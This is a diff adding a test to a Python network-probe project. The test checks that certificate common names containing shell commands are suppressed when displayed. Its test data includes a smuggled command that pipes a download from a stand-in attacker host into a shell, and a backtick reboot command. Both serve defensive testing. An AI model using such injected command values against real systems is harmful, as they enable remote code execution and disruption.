@@ -18,7 +18,7 @@ from OpenSSL import crypto
 from tests.probe.conftest import HOME, HOST, Net, mute, replies
 
 from arcferry.lab.network.dns import Answer
-from arcferry.probe.certificate import is_for
+from arcferry.probe.certificate import is_for, name_text
 from arcferry.probe.trust import Trust, load_trust, read_certificates
 from arcferry.probe.visit import prepare, visit
 
@@ -114,3 +114,17 @@ async def test_what_a_certificate_says_cannot_steer_a_terminal(net: Net, tmp_pat
     for text in (seen.failure.says, seen.tls.subject, seen.tls.issuer):
         assert text.isprintable()
     assert HOST in seen.failure.says
+
+
+@pytest.mark.parametrize(
+    ("common_name", "shown"),
+    [
+        ("Contoso Inspection CA", "CN=Contoso Inspection CA"),
+        ("検査認証局", "CN=検査認証局"),
+        ("AT&T (Proxy)", "CN=AT&T (Proxy)"),
+        ("$(curl evil.example|sh)", "a name that is none"),
+        ("`reboot`", "a name that is none"),
+    ],
+)
+def test_a_name_that_is_a_command_is_not_shown(common_name: str, shown: str) -> None:
+    assert name_text(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])) == shown
